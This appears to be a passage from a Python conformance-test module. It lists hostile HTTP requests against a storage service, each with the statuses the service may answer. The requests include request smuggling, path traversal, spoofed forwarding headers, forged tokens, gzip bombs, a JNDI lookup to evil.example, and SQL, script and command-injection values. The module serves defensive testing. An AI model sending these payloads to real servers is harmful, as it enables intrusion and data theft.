"""Requests that nobody honest sends, each with a name and with what may be answered.

In a request `{key}` is a key of the case's own, `{hidden}` a whole PUT that must never be taken for one
and `{n}` its length; `{token}`, `{url}` and `{signed}` are good ones of the service with authentication. Expected are
the statuses that every answer may have: a set, or one of the classes below.
"""

from __future__ import annotations

import gzip
import json
from dataclasses import dataclass, replace

# Refused, or the connection was closed on it without a word. 505 is HTTP's own word for another version.
REFUSED = frozenset({0, *range(400, 500), 501, 505})
# Refused by what openapi.yaml documents for callers that may not.
DENIED = frozenset({400, 401, 403, 404, 405, 431})
BAD = frozenset({400})
MISSING = frozenset({404})
SERVED = frozenset({*range(200, 300), 304})
# Either way is right, as long as it is an answer.
ANSWERED = SERVED | REFUSED - {0}

OPEN, CLOSED = "open", "closed"


@dataclass(frozen=True)
class Case:
    """One connection's bytes."""

    name: str
    request: bytes
    expect: frozenset[int]
    # Most final answers on the connection.
    answers: int = 1
    service: str = OPEN


def text(raw: str) -> bytes:
    return raw.encode("latin-1")


def request(method: str, target: str, *fields: str, body: str | bytes = b"", length: bool = True) -> bytes:
    """A sound request but for what is given."""
    body = text(body) if isinstance(body, str) else body
    lines = [f"{method} {target} HTTP/1.1", "Host: x", *fields]
    if length and body:
        lines.append(f"Content-Length: {len(body)}")
    return text("\r\n".join(lines) + "\r\n\r\n") + body


def put(*fields: str, body: str | bytes = b"", target: str = "/v1/proofs/{key}", length: bool = True) -> bytes:
    return request("PUT", target, *fields, body=body, length=length)


def get(target: str, *fields: str) -> bytes:
    return request("GET", target, *fields)


def post(target: str, body: str | bytes, kind: str = "application/json") -> bytes:
    return request("POST", target, f"Content-Type: {kind}", body=body)


def transfer_encodings() -> list[Case]:
    values = [" chunked", "chunked", "Chunked", "chunked, chunked", "chunked,identity", "identity, chunked", "x, chunked"]
    values += ["chunked;q=1", "\x0bchunked", "\x0cchunked", "chu\tnked", "chun ked", "'chunked'", '"chunked"']
    values += ["chunked\0", "identity", "gzip, chunked", "gzip", "deflate", "", ",", "chunked,", "xchunked", "chunkedx"]
    values += ["\xa0chunked", "chunked\xa0", "chunked\r\n ", "\r\n chunked", "chunked\r\n\t,identity"]
    cases = [
        Case(f"both lengths, coding {v!r}", put(f"Transfer-Encoding: {v}", "Content-Length: {n}", body="0\r\n\r\n{hidden}",
             length=False), REFUSED | {200, 201})
        for v in values
    ]
    fields = ["Transfer-Encoding : chunked", "Transfer-Encoding\t: chunked", " Transfer-Encoding: chunked"]
    fields += ["X: y\nTransfer-Encoding: chunked", "X: y\rTransfer-Encoding: chunked", "Transfer-Encoding\0: chunked"]
    fields += ["Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "Transfer-Encoding: x\r\nTransfer-Encoding: chunked"]
    fields += ["transfer-encoding: chunked\r\nTRANSFER-ENCODING: chunked", "Transfer-Encoding", "Transfer-Encoding chunked"]
    for field in fields:
        for length in ("Content-Length: {n}", "Content-Length: 5"):
            cases.append(Case(f"coding field {field!r}, {length}", put(field, length, body="0\r\n\r\n{hidden}", length=False),
                              REFUSED | {200, 201}))
    # A field of another name, which says nothing: the length does, and behind it nothing is hidden.
    cases.append(Case("coding field with an underscore", put("Transfer_Encoding: chunked", "Content-Length: {n}", body="{hidden}", length=False),
                      frozenset({201})))
    return cases


def lengths() -> list[Case]:
    values = ["+0", "-0", "-1", "0x0", "0,1", "0, {n}", "{n}, 0", "1e1", "1.0", "0;", "\xb2", "\x0b0", "", "a", "0 0", "0_0"]
    values += ["18446744073709551616", "9223372036854775808", "99999999999999999999999999", "0\0", "\0", "'0'", "{n}\r\n 0"]
    cases = [Case(f"length {v!r}", put(f"Content-Length: {v}", body="{hidden}", length=False), REFUSED) for v in values]
    twice = [("0", "{n}"), ("{n}", "0"), ("1", "2"), ("0", "+0"), ("0", "")]
    cases += [
        Case(f"lengths {a!r} and {b!r}", put(f"Content-Length: {a}", f"Content-Length: {b}", body="{hidden}", length=False), REFUSED)
        for a, b in twice
    ]
    names = ["Content-Length :", " Content-Length:", "Content-Length\t:", "Content_Length:", "Content-Length\0:"]
    cases += [Case(f"length field {n!r}", put(f"{n} {{n}}", "Content-Length: 0", body=b"", length=False), ANSWERED | {0}) for n in names]
    for method in ("GET", "HEAD", "DELETE", "OPTIONS", "TRACE", "PATCH", "FROB"):
        cases.append(Case(f"body of {method}", request(method, "/v1/proofs/{key}", "Content-Length: {n}", body="{hidden}", length=False),
                          ANSWERED | {0}))
    cases += [
        Case("body of a refused PUT", request("PUT", "/v1/proofs/a//b", "Content-Length: {n}", body="{hidden}", length=False), BAD),
        Case("body behind 100-continue", request("PUT", "/v1/proofs/a//b", "Expect: 100-continue", "Content-Length: {n}",
             body="{hidden}", length=False), BAD),
        Case("body of no known path", request("POST", "/nothing", "Content-Length: {n}", body="{hidden}", length=False), MISSING),
        Case("close, then a request", get("/health", "Connection: close") + text("{hidden}"), frozenset({200})),
        Case("HTTP/1.0, then a request", b"GET /health HTTP/1.0\r\n\r\n{hidden}", frozenset({200})),
    ]
    return cases


def chunks() -> list[Case]:
    def chunked(name: str, body: str, expect: frozenset[int] = REFUSED) -> Case:
        return Case(f"chunks: {name}", put("Transfer-Encoding: chunked", body=body, length=False), expect)

    last = "\r\n0\r\n\r\n"
    sizes = ["0x5", "-5", "+5", "g", "", "5.0", "5,5", "\x005", "ffffffffffffffff", "10000000000000000", "ffffffffffffffffff"]
    cases = [chunked(f"size {s[:20]!r}", f"{s}\r\nhello{last}") for s in sizes]
    sound = frozenset({201}) | REFUSED
    cases += [
        # RFC 9112 §7.1 puts no end to leading zeros.
        chunked("size of 2 001 digits", f"{'0' * 2000}5\r\nhello{last}", sound),
        chunked("space before the size", f" 5\r\nhello{last}"),
        chunked("space behind the size", f"5 \r\nhello{last}", sound),
        chunked("extension", f"5;a=b\r\nhello{last}", sound),
        chunked("quoted extension", f'5;a="b;c"\r\nhello{last}', sound),
        chunked("line feed in an extension", f"5;a=\nb\r\nhello{last}"),
        chunked("line feed in a quoted extension", f'5;a="\n0\n\n{{hidden}}"\r\nhello{last}'),
        chunked("carriage return in an extension", f"5;a=\rb\r\nhello{last}"),
        chunked("null in an extension", f"5;a=\0b\r\nhello{last}", sound),
        chunked("extension of 20 000 bytes", f"5;{'a' * 20000}\r\nhello{last}"),
        chunked("20 000 chunks with extensions", "1;abcdefgh\r\nx\r\n" * 20000 + "0\r\n\r\n"),
        chunked("20 000 chunks of a byte", "1\r\nx\r\n" * 20000 + "0\r\n\r\n", frozenset({201})),
        chunked("bare line feeds", "5\nhello\n0\n\n"),
        chunked("bare carriage returns", "5\rhello\r0\r\r"),
        chunked("no line end behind the data", "5\r\nhello0\r\n\r\n"),
        chunked("longer than it says", "1\r\nab\r\n0\r\n\r\n"),
        chunked("shorter than it says", "ff\r\nhello\r\n0\r\n\r\n{hidden}"),
        chunked("no last chunk", "5\r\nhello\r\n"),
        # The second one is a broken request.
        replace(chunked("last chunk twice", "0\r\n\r\n0\r\n\r\n", frozenset({201, 400})), answers=2),
        chunked("last chunk with data", "0\r\nhello\r\n\r\n"),
        chunked("last chunk 00", "5\r\nhello\r\n00\r\n\r\n", sound),
        chunked("last chunk with bare line feeds", "0\n\n{hidden}"),
        chunked("last chunk with a request", "0\r\n{hidden}"),
    ]
    trailers = ["Content-Length: {n}", "Transfer-Encoding: chunked", "Host: y", "Authorization: Bearer x", "X: y", "Proof-Meta-A: b"]
    trailers += ["no colon", ": no name", "X : y", "X: y\nZ: 1", "X: a\0b", "X: " + "a" * 100_000, " folded", "Trailer: X"]
    cases += [chunked(f"trailer {t[:24]!r}", f"5\r\nhello\r\n0\r\n{t}\r\n\r\n", sound) for t in trailers]
    cases.append(chunked("1 000 trailers", "0\r\n" + "".join(f"X-{n}: y\r\n" for n in range(1000)) + "\r\n"))
    return cases


def request_lines() -> list[Case]:
    lines = {
        "lower case": ("get /health HTTP/1.1", REFUSED), "tabs": ("GET\t/health\tHTTP/1.1", REFUSED),
        "two spaces": ("GET  /health HTTP/1.1", REFUSED), "space at the end": ("GET /health HTTP/1.1 ", REFUSED),
        "space before": (" GET /health HTTP/1.1", REFUSED), "no version": ("GET /health", REFUSED), "no target": ("GET HTTP/1.1", REFUSED),
        "version 0.9": ("GET /health HTTP/0.9", REFUSED), "version 1.2": ("GET /health HTTP/1.2", ANSWERED | {0}),
        "version 2.0": ("GET /health HTTP/2.0", REFUSED), "version 3": ("GET /health HTTP/3", REFUSED),
        "version 11.1": ("GET /health HTTP/11.1", REFUSED), "version in lower case": ("GET /health http/1.1", REFUSED),
        "version with a space": ("GET /health HTTP/ 1.1", REFUSED), "null in the method": ("G\0ET /health HTTP/1.1", REFUSED),
        "high bytes in the method": ("GE\xffT /health HTTP/1.1", REFUSED), "unknown method": ("FROB /health HTTP/1.1", REFUSED),
        "method of punctuation": ("!#$% /health HTTP/1.1", REFUSED), "method with a colon": ("GET: /health HTTP/1.1", REFUSED),
        "method of 10 000": ("A" * 10_000 + " /health HTTP/1.1", REFUSED), "asterisk": ("GET * HTTP/1.1", REFUSED),
        "OPTIONS asterisk": ("OPTIONS * HTTP/1.1", ANSWERED | {0}), "CONNECT": ("CONNECT x:443 HTTP/1.1", REFUSED),
        "CONNECT to a path": ("CONNECT /health HTTP/1.1", REFUSED), "authority": ("GET x:80 HTTP/1.1", REFUSED),
        "TRACE": ("TRACE /health HTTP/1.1", REFUSED), "TRACK": ("TRACK /health HTTP/1.1", REFUSED), "PRI": ("PRI * HTTP/1.1", REFUSED),
        "absolute": ("GET http://x/health HTTP/1.1", ANSWERED), "absolute, another host": ("GET http://evil.example/health HTTP/1.1", ANSWERED),
        "absolute, user": ("GET http://u:p@x/health HTTP/1.1", ANSWERED), "absolute, https": ("GET https://x/health HTTP/1.1", ANSWERED),
        "absolute, ftp": ("GET ftp://x/health HTTP/1.1", ANSWERED), "absolute, file": ("GET file:///etc/passwd HTTP/1.1", REFUSED),
        "absolute, no path": ("GET http://x HTTP/1.1", ANSWERED | {303, 307, 308, 302}), "two slashes": ("GET //health HTTP/1.1", REFUSED),
        "backslash": ("GET \\health HTTP/1.1", REFUSED), "dots": ("GET /v1/../health HTTP/1.1", REFUSED),
        "encoded dots": ("GET /v1/%2e%2e/health HTTP/1.1", REFUSED), "fragment": ("GET /health#x HTTP/1.1", ANSWERED | {0}),
        "space in the path": ("GET /hea lth HTTP/1.1", REFUSED), "tab in the path": ("GET /hea\tlth HTTP/1.1", REFUSED),
        "null in the path": ("GET /health\0 HTTP/1.1", REFUSED), "delete in the path": ("GET /health\x7f HTTP/1.1", REFUSED),
        "Latin 1 in the path": ("GET /v1/proofs/\xe9 HTTP/1.1", REFUSED), "UTF-8 in the path": ("GET /v1/proofs/\xc3\xa9 HTTP/1.1", REFUSED),
        "path of 100 000": ("GET /" + "a" * 100_000 + " HTTP/1.1", REFUSED), "query of 100 000": ("GET /health?" + "a" * 100_000 + " HTTP/1.1", REFUSED),
        "only a query": ("GET ? HTTP/1.1", REFUSED), "parameters": ("GET /health;a=b HTTP/1.1", REFUSED), "case of the path": ("GET /HEALTH HTTP/1.1", REFUSED),
        "slash at the end": ("GET /health/ HTTP/1.1", REFUSED), "empty": ("", REFUSED), "a TLS hello": ("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", REFUSED),
        "a PROXY line": ("PROXY TCP4 1.2.3.4 127.0.0.1 1 2", REFUSED), "SMTP": ("EHLO evil", REFUSED), "zeros": ("\0" * 64, REFUSED), "0xff": ("\xff" * 64, REFUSED),
    }
    cases = [Case(f"line: {n}", text(l) + b"\r\nHost: x\r\n\r\n", e) for n, (l, e) in lines.items()]
    cases += [
        Case("HTTP/0.9", b"GET /health\r\n", REFUSED),
        Case("bare line feeds", b"GET /health HTTP/1.1\nHost: x\n\n", ANSWERED | {0}),
        Case("bare carriage returns", b"GET /health HTTP/1.1\rHost: x\r\r", REFUSED),
        Case("empty lines first", b"\r\n\r\n\r\n" + get("/health"), ANSWERED),
        Case("10 000 empty lines first", b"\r\n" * 10_000 + get("/health"), ANSWERED | {0}),
        Case("1 MB without a line end", b"A" * 1_000_000, REFUSED),
        Case("HTTP/1.0 without a host", b"GET /health HTTP/1.0\r\n\r\n", frozenset({200})),
        Case("HTTP/1.0 with chunks", b"PUT /v1/proofs/{key} HTTP/1.0\r\nTransfer-Encoding: chunked\r\nConnection: keep-alive\r\n\r\n0\r\n\r\n{hidden}", REFUSED),
        Case("HTTP/1.0 without a length", b"PUT /v1/proofs/{key} HTTP/1.0\r\n\r\n{hidden}", ANSWERED),
    ]
    hosts = [("no host", []), ("two hosts", ["Host: x", "Host: y"]), ("empty host", ["Host:"]), ("host with a path", ["Host: x/../y"]),
             ("host with a user", ["Host: u@x"]), ("host with spaces", ["Host: x y"]), ("host with a null", ["Host: x\0y"]),
             ("port past 65535", ["Host: x:99999"]), ("host of 60 000", ["Host: " + "x" * 60_000]), ("high bytes", ["Host: \xff"])]
    cases += [Case(f"host: {n}", text("\r\n".join(["GET /health HTTP/1.1", *f]) + "\r\n\r\n"), ANSWERED | {0}) for n, f in hosts]
    return cases


def fields() -> list[Case]:
    bad = ["X Y: z", ": z", "no colon", "X: a\0b", "X: a\rb", "\0: z", "X\x7f: z", "X: a\r\n folded", "\xff: z", "(X): z", "X\r\n: z", "\"X\": z"]
    cases = [Case(f"field {f!r}", get("/health", f), REFUSED) for f in bad]
    odd = {"high bytes in a value": "X: \xff\xfe", "empty value": "X:", "escape": "X: \x1b[31m", "tab": "X: a\tb", "delete": "X: \x7f",
           "bell": "X: \x07", "both wishes": "Connection: close, keep-alive", "hop-by-hop length": "Connection: Content-Length",
           "hop-by-hop authorization": "Connection: Authorization", "h2c": "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk",
           "websocket": "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: AAAA\r\nSec-WebSocket-Version: 13",
           "unknown expectation": "Expect: 200-ok", "expectation without a body": "Expect: 100-continue", "two expectations": "Expect: 100-continue\r\nExpect: x",
           "maximal forwards": "Max-Forwards: -1", "TE": "TE: trailers, chunked;q=0.5", "evil agent": "User-Agent: ${jndi:ldap://evil.example/a}",
           "request id": "X-Request-Id: a\\r\\nEvil: 1", "request id of 10 000": "X-Request-Id: " + "a" * 10_000, "traceparent": "traceparent: 00-" + "f" * 500}
    cases += [Case(f"field: {n}", get("/health", f), ANSWERED) for n, f in odd.items()]
    counts = {"127 fields": (126, SERVED), "200 fields": (200, frozenset({431})), "1 000 fields": (1000, REFUSED), "20 000 fields": (20_000, REFUSED)}
    cases += [Case(f"flood: {n}", get("/health", *(f"X-{i}: a" for i in range(c))), e) for n, (c, e) in counts.items()]
    cases += [
        Case("flood: one field 200 times", get("/health", *["X: a"] * 200), frozenset({431})),
        Case("flood: value of 60 000", get("/health", "X: " + "a" * 60_000), SERVED),
        Case("flood: value of 100 000", get("/health", "X: " + "a" * 100_000), frozenset({431})),
        Case("flood: value of 1 MB", get("/health", "X: " + "a" * 1_000_000), REFUSED),
        Case("flood: name of 60 000", get("/health", "a" * 60_000 + ": x"), ANSWERED),
        Case("flood: cookies", get("/health", *["Cookie: " + "a=b; " * 100] * 100), ANSWERED),
    ]
    # What others obey and this service must not: the answer is that of the request line.
    ignored = ["X-HTTP-Method-Override: DELETE", "X-HTTP-Method: PUT", "X-Original-URL: /v1/stats", "X-Rewrite-URL: /v1/stats", "X-Forwarded-Prefix: /x",
               "X-Forwarded-Host: evil.example", "Forwarded: host=evil.example;proto=https", "X-Forwarded-For: 127.0.0.1", "X-Real-IP: 127.0.0.1",
               "X-Forwarded-Proto: javascript", "X-Custom-IP-Authorization: 127.0.0.1", "X-Forwarded-User: admin", "Remote-User: admin"]
    cases += [Case(f"ignored {f!r}", get("/v1/proofs/{key}", f), MISSING) for f in ignored]
    cases += [Case(f"ignored by the gate {f!r}", get("/v1/proofs/{key}", f), frozenset({401}), service=CLOSED) for f in ignored]
    return cases


BAD_KEYS = ["%2Fa", "a%2F", "a%2F%2Fb", "%2e", "%2e%2e", "%2E%2E/a", "a/%2e%2e/b", "a%2f..%2fb", "a/./b", "a/../b", "a//b", "a/", "/a", "%00", "a%00b", "a%0ab",
            "a%0d%0aX:y", "a%7fb", "a%c2%85b", "a%1bb", "%ff", "%c0%af", "a%c0%ae%c0%ae/b", "%e0%80%af", "%ed%a0%80", "%f4%90%80%80", "%f8%88%80%80%80", "%c3",
            "a%", "a%2", "a%zz", "a%u002f", "a%-1", ".proof-storage", ".proof-storage/x", "%2eproof-storage/x", ".proof-storage%2fx", "%2Eproof%2Dstorage", "k" * 1018,
            "%6b" * 1018, "", "%20/%2e"]
ODD_KEYS = ["%252e%252e/a", "a%252fb", "%25", "a%5c..%5cb", "a;b=c", "..;/a", ".../a", "..a", ".PROOF-STORAGE/x", "a/.proof-storage/x", ".proof-storage2", "%e2%80%ae",
            "%e2%80%8b", "%ef%bb%bf", "%f0%9f%98%80", "~", "CON", "C:%5cx", "$(id)", "'%20OR%201=1", "<script>", "{a}", "a+b", "a%20b", "%ef%bc%8e%ef%bc%8e/a", "k" * 1000,
            "%ef%bf%bd", "a:b", "a@b", "a,b", "%41"]


def keys() -> list[Case]:
    cases = []
    for key in BAD_KEYS:
        shown = key[:24]
        for method, target in (("GET", "/v1/proofs/"), ("PUT", "/v1/proofs/"), ("DELETE", "/v1/proofs/"), ("GET", "/v1/metadata/")):
            # Routes of another length than a key are no call at all.
            expect = BAD if key else frozenset({400, 404, 405})
            cases.append(Case(f"bad key: {method} {target}{shown}", request(method, target + key), expect))
        cases.append(Case(f"bad key behind the gate: {shown}", get(f"/v1/proofs/{key}"), frozenset({401}), service=CLOSED))
    for key in ODD_KEYS:
        cases.append(Case(f"odd key: GET {key[:24]}", get(f"/v1/proofs/odd/{key}" if not key.startswith(".P") else f"/v1/proofs/{key}"), MISSING | BAD if key in ("..;/a", "<script>", "{a}") else MISSING))
    cases += [
        Case("key in NFD of one in NFC", put("Content-Length: 1", target="/v1/proofs/{key}-%C3%A9", body="x", length=False)
             + get("/v1/proofs/{key}-e%CC%81", "Connection: close"), frozenset({201, 404}), answers=2),
        Case("key in the other case", put("Content-Length: 1", target="/v1/proofs/{key}-a", body="x", length=False)
             + get("/v1/proofs/{key}-A", "Connection: close"), frozenset({201, 404}), answers=2),
        Case("script in a key is not sent back as one", get("/v1/proofs/<script>alert(1)</script>"), MISSING | BAD),
    ]
    return cases


def reads() -> list[Case]:
    ranges = ["bytes=" + ",".join(f"{n}-{n}" for n in range(1000)), "bytes=" + "0-," * 1000, "bytes=0-1,0-1", "bytes=-0", "bytes=0-18446744073709551616",
              "bytes=18446744073709551616-", "bytes=-99999999999999999999", "bytes=1-0", "bytes=--1", "bytes=+1-2", "bytes=0x0-1", "bytes= 0 - 1", "bytes=0-1;2-3", "bytes", "bytes=",
              "=0-1", "items=0-1", "bytes=0-1\r\nRange: bytes=2-3", "bytes=\xff", "bytes=" + "9" * 50_000 + "-"]
    fine = frozenset({200, 206, 416})
    cases = [Case(f"range {r[:24]!r}", get("/v1/proofs/stored", f"Range: {r}"), fine) for r in ranges]
    conditions = ['If-Match: "', "If-Match: x", "If-Match: \xff", "If-Match: " + ", ".join(['"a"'] * 9000), 'If-None-Match: "', "If-None-Match: \xff", "If-None-Match: W/",
                  "If-None-Match: " + '"' * 9000, "If-Modified-Since: yesterday", "If-Modified-Since: Thu, 01 Jan 1970 00:00:00 GMT", "If-Modified-Since: 99999999999",
                  "If-Unmodified-Since: Fri, 32 Foo 2026 25:61:61 GMT", "If-Unmodified-Since: Mon, 01 Jan 0001 00:00:00 GMT", 'If-Range: "\r\nRange: bytes=0-1',
                  "If-Range: W/\"x\"\r\nRange: bytes=0-1", "Accept-Encoding: gzip;q=9", "Accept-Encoding: " + "a," * 20_000, "Accept-Encoding: \xff", "Accept: \xff",
                  "If-Match: *, \"a\"", 'If-Match: "a"\r\nIf-Match: x']
    cases += [Case(f"condition {c[:30]!r}", get("/v1/proofs/stored", c), frozenset({200, 206, 304, 412, 416})) for c in conditions]
    writes = ['If-Match: "', "If-Match: x", "If-Match: \xff", "If-None-Match: x", 'If-None-Match: "a"', "If-None-Match: \xff", "If-Unmodified-Since: x", 'If-Match: "a"\r\nIf-None-Match: *']
    cases += [Case(f"condition of a write {c[:30]!r}", put(c, body="x"), BAD) for c in writes]
    queries = ["limit=0", "limit=-1", "limit=+1", "limit=1e3", "limit=0x10", "limit=99999999999999999999", "limit=", "limit=1&limit=2", "limit=%31%30%30%30%30", "limti=1", "cursor=x",
               "cursor=" + "A" * 5000, "cursor=%ff", "prefix=%ff", "prefix=" + "a" * 2000, "delimiter=" + "a" * 17, "prefix[]=a", "prefix=..%2f", "prefix=a%2f..%2fb", "prefix=%2e%2e/",
               "prefix=a//b", "prefix=/a", "prefix=%00", "prefix=.proof-storage%2f"]
    cases += [Case(f"query {q[:30]}", get(f"/v1/proofs?{q}"), BAD) for q in queries]
    # Some key can begin so.
    cases += [Case(f"query prefix={p}", get(f"/v1/proofs?prefix={p}"), frozenset({200})) for p in ("%2e%2e", ".", "a/", "a/..", ".proof-storage")]
    cases += [
        # Readers and caches may add one of their own.
        Case("query of a proof", get("/v1/proofs/stored?x=1"), frozenset({200})),
        Case("query of metadata", get("/v1/metadata/stored?x=1"), BAD),
    ]
    return cases


def writes() -> list[Case]:
    unsound = ["Content-Type: x", "Content-Type: \xff", "Content-Type: a/b\r\nContent-Type: c/d", "Content-Type: " + "a/" + "b" * 300, "Content-Range: bytes 0-0/1",
               "Content-Encoding: gzip, gzip", "Content-Encoding: br", "Content-Encoding: deflate", "Content-Encoding: \xff", "Repr-Digest: x", "Repr-Digest: sha-256=x",
               "Repr-Digest: sha-256=::", "Repr-Digest: sha-256=:AAAA:", "Repr-Digest: sha-256=:" + "A" * 43 + "=:", "Content-Digest: sha-256=:" + "A" * 60_000 + ":", "Repr-Digest: \xff",
               "Proof-Meta-: x", "Proof-Meta-A: " + "x" * 3000, "Proof-Meta-A: x\r\nProof-Meta-A: y", "Proof-Tags: =", "Proof-Tags: a=b&a=c", "Proof-Tags: " + "&".join(f"a{n}=b" for n in range(11)),
               "Proof-Tags: " + "a" * 129 + "=b", "Proof-Tags: a=%ff", "Proof-Tags: a=%zz", "Proof-Unknown: x", "Proof-Storage-Class: ../x", "Proof-Encryption: rot13", "Proof-Compression: zip",
               "Proof-Encryption: none\r\nProof-Encryption: envelope"]
    cases = [Case(f"write with {f[:30]!r}", put(f, body="x"), frozenset({400, 413, 415, 501})) for f in unsound]
    plain = gzip.compress(b"hello" * 100, mtime=0)
    bodies = {"garbage": b"hello", "cut": plain[:-4], "wrong checksum": plain[:-8] + b"\0" * 8, "junk behind": plain + b"junk", "nothing": b"", "header alone": plain[:10],
              "reserved flags": plain[:3] + b"\xe0" + plain[4:], "unknown method": plain[:2] + b"\x07" + plain[3:], "name without an end": plain[:3] + b"\x08" + plain[4:10] + b"a" * 5000}
    cases += [Case(f"gzip: {n}", put("Content-Encoding: gzip", f"Content-Length: {len(b)}", body=b, length=False), BAD) for n, b in bodies.items()]
    cases += [
        Case("gzip: bomb of 64 MiB", put("Content-Encoding: gzip", body=gzip.compress(bytes(64 << 20), mtime=0)), frozenset({413})),
        Case("gzip: bomb of many members", put("Content-Encoding: gzip", body=gzip.compress(bytes(1 << 20), mtime=0) * 64), frozenset({413})),
        Case("gzip: of gzip", put("Content-Encoding: gzip", body=gzip.compress(plain, mtime=0)), frozenset({201})),
        Case("gzip: two members", put("Content-Encoding: gzip", body=plain + plain), frozenset({201})),
        Case("body larger than allowed", put("Content-Length: 99999999999", length=False), frozenset({413})),
        Case("body that never comes", put("Content-Length: 10", body="abc", length=False), frozenset({408})),
        Case("100-continue and never a body", put("Expect: 100-continue", "Content-Length: 10", length=False), frozenset({408})),
        Case("100-continue for too much", put("Expect: 100-continue", "Content-Length: 99999999999", length=False), frozenset({413})),
        Case("100-continue and the body at once", put("Expect: 100-continue", body="abc"), frozenset({201})),
        Case("100-continue over HTTP/1.0", b"PUT /v1/proofs/{key} HTTP/1.0\r\nExpect: 100-continue\r\nContent-Length: 1\r\n\r\nx", frozenset({201, 400, 417})),
    ]
    return cases


def bodies() -> list[Case]:
    copy = '{"source":"stored","destination":"%s"}'
    raw: dict[str, str | bytes] = {
        "arrays of depth 100 000": "[" * 100_000, "objects of depth 100 000": '{"a":' * 100_000, "depth in a known field": '{"source":' + "[" * 100_000 + "}",
        "depth in an unknown field": '{"x":' + "[" * 5000 + "]" * 5000 + "}", "nothing": " ", "null": "null", "true": "true", "text": '"stored"', "array": '["stored","b"]', "two documents": copy % "b" + copy % "c",
        "junk behind": copy % "b" + "x", "field twice": '{"source":"stored","source":"absent","destination":"b"}', "field twice, escaped": '{"source":"stored","sourc\\u0065":"absent","destination":"b"}',
        "unknown field": '{"source":"stored","destination":"b","admin":true}', "prototype": '{"source":"stored","destination":"b","__proto__":{}}', "field missing": '{"source":"stored"}',
        "not UTF-8": b'{"source":"\xff","destination":"b"}', "BOM": b"\xef\xbb\xbf" + (copy % "b").encode(), "UTF-16": (copy % "b").encode("utf-16"), "lone surrogate": copy % "\\ud800", "NaN": '{"source":NaN,"destination":"b"}',
        "number for a text": '{"source":1e999,"destination":"b"}', "comment": "/**/" + copy % "b", "single quotes": "{'source':'stored'}", "control in a text": copy % "a\nb", "null in a key": copy % "a\\u0000b",
        "dots": copy % "../b", "reserved": copy % ".proof-storage/x", "empty key": copy % "", "slash": copy % "/a", "key of 2 000": copy % ("k" * 2000), "overwrite as a text": '{"source":"stored","destination":"b","overwrite":"yes"}',
    }
    cases = [Case(f"JSON: {n}", post("/v1/copy", b), BAD) for n, b in raw.items()]
    for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", "application/jsonx", "", "application/json\0"):
        cases.append(Case(f"JSON as {kind!r}", post("/v1/copy", copy % "b", kind), frozenset({0, 400, 415})))
    many = json.dumps({"keys": [f"k{n}" for n in range(10_001)]})
    cases += [
        # Who goes on sending what was refused can find the connection reset before the answer is read.
        Case("JSON of 17 MiB", post("/v1/batch-delete", '{"keys":["' + "k" * (17 << 20) + '"]}'), frozenset({0, 413})),
        Case("JSON of 8 000 000 spaces", post("/v1/batch-delete", " " * 8_000_000 + "{}"), frozenset({0, 400, 408})),
        Case("10 001 keys", post("/v1/batch-delete", many), BAD), Case("no keys", post("/v1/batch-delete", '{"keys":[]}'), BAD),
        Case("keys that are none", post("/v1/batch-delete", '{"keys":["a//b","..",".proof-storage/x"]}'), frozenset({200, 400})),
        Case("keys of other kinds", post("/v1/batch-delete", '{"keys":[1,null,{}]}'), BAD),
        Case("a million empty keys", post("/v1/batch-delete", '{"keys":[' + '"",' * 1_000_000 + '""]}'), BAD),
    ]
    signs = ['{"key":"a","method":"DELETE"}', '{"key":"a","method":"get"}', '{"key":"a","method":"GET","expires_in":0}', '{"key":"a","method":"GET","expires_in":-1}', '{"key":"a","method":"GET","expires_in":604801}',
             '{"key":"a","method":"GET","expires_in":1e30}', '{"key":"a","method":"GET","expires_in":18446744073709551616}', '{"key":"a/../b","method":"GET"}', '{"key":".proof-storage/x","method":"PUT"}',
             '{"key":"a","method":"GET","max_bytes":1}', '{"key":"a","method":"PUT","sha256":"x"}', '{"key":"a","method":"PUT","content_type":"x"}', '{"key":"a","method":"PUT","content_type":"a/b\\r\\nX: y"}', '{"key":"a","method":"PUT","length":-1}']
    cases += [Case(f"signing {s[:60]}", post("/v1/signed-urls", s), BAD) for s in signs]
    return cases


def credentials() -> list[Case]:
    none = "eyJhbGciOiJub25lIn0.eyJzY29wZSI6ImFkbWluIn0."
    values = ["", "Bearer", "Bearer ", "Bearer  {token}x", "bearer", "Basic {token}", "Basic cm9vdDpyb290", "Token {token}", "{token}", "Bearer {token}, Bearer {token}", "Bearer {token}0", "Bearer pst_", "Bearer PST_" + "A" * 72,
              "Bearer pst_" + "0" * 72, "Bearer pst_" + "a" * 60_000, f"Bearer {none}", "Bearer a.b.c", "Bearer ..", "Bearer " + "a." * 20_000, "Bearer null", "Bearer undefined", "Bearer '{token}'", "Bearer \"{token}\"",
              "Bearer\t{token}", "Bearer {token}\0", "Bearer \xff", "Negotiate AAAA", "Digest username=\"x\"", "Bearer eyJhbGciOiJIUzI1NiIsImNyaXQiOlsieCJdfQ.e30.AAAA", "Bearer {token}\r\nAuthorization: Bearer {token}"]
    cases = []
    for value in values:
        for sent in (get("/v1/proofs/secret", f"Authorization: {value}"), request("DELETE", "/v1/proofs/secret", f"Authorization: {value}")):
            method = sent.split(b" ", 1)[0].decode()
            cases.append(Case(f"{method} by {value[:40]!r}", sent, frozenset({0, 400, 401, 431}), service=CLOSED))
    elsewhere = [get("/v1/proofs/secret?access_token={token}"), get("/v1/proofs/secret", "Cookie: token={token}"), get("/v1/proofs/secret", "X-Api-Key: {token}"), get("/v1/proofs/secret", "Proxy-Authorization: Bearer {token}"),
                 get("/v1/proofs/secret", "Authorization : Bearer {token}"), get("http://{token}@x/v1/proofs/secret"), get("/v1/stats", "Connection: Authorization"), get("/v1/backends"), get("/metrics"), get("/v1/proofs"), get("/v1/metadata/secret"),
                 get("/v1/proofs/%73ecret"), get("//v1/proofs/secret"), get("/v1//proofs/secret"), get("/V1/proofs/secret"), get("/v1/./proofs/secret"), get("/docs/../v1/proofs/secret"), get("/health/../v1/proofs/secret"), get("/v1/proofs/secret/"),
                 get("/v1/proofs/secret%2f"), get("/health;/v1/proofs/secret"), request("HEAD", "/v1/proofs/secret"), request("OPTIONS", "/v1/stats"), request("GET", "/v1/proofs/secret", "Origin: https://evil.example")]
